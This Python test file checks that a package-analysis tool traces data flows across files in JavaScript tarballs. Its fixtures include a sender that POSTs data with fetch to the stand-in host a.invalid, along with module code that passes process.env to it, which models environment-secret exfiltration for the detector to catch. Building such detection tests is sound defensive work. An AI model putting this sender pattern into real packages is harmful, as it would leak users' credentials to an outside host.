from __future__ import annotations

from assay.assessment.across import MAX_FILE_BYTES, with_crossings
from assay.assessment.patience import Patience
from assay.assessment.sources import sources_of
from assay.model.integrity import Integrity
from assay.model.manifest import Manifest
from assay.model.source import Flow, SourceFile
from assay.model.tarball import Member, Tarball

SENDER = 'exports.send = (data) => fetch("https://a.invalid/c", { method: "POST", body: data });\n'


def member(path: str, text: str) -> Member:
    data = text.encode()
    return Member(path, len(data), head=data[:4096], data=data)


def crossings(*members: Member) -> list[Flow]:
    tarball = Tarball(Integrity.of(b""), 0, 0, members)
    files, gaps = sources_of(tarball, Manifest(entry_points={"main": "index.js"}))
    assert not gaps
    return [flow for file in files for flow in file.flows if flow.source.location.file != flow.sink.location.file]


def test_the_sinks_file_holds_what_flows_into_it_through_a_third_one() -> None:
    main = member("index.js", 'require("./lib")(process.env);\n')
    between = member("lib/index.js", 'const { send } = require("./s");\nmodule.exports = (all) => send(all);\n')
    (flow,) = crossings(main, between, member("lib/s.js", SENDER))
    assert flow.source.location.file == "index.js"
    assert flow.sink.location.file == "lib/s.js"


def test_files_that_nothing_starts_are_left_alone() -> None:
    example = member("examples/a.js", 'require("../s").send(process.env);\n')
    assert crossings(member("index.js", 'require("./s");'), member("s.js", SENDER), example) == []


def test_large_files_are_left_alone() -> None:
    padded = SENDER + "//" + "x" * MAX_FILE_BYTES
    assert crossings(member("index.js", 'require("./s").send(process.env);\n'), member("s.js", padded)) == []


def test_files_without_any_part_of_a_chain_stay_what_they_are() -> None:
    files = (SourceFile("index.js", 3, ("main",)),)
    assert with_crossings(files, {"index.js": member("index.js", "a()")}, Patience()) == files
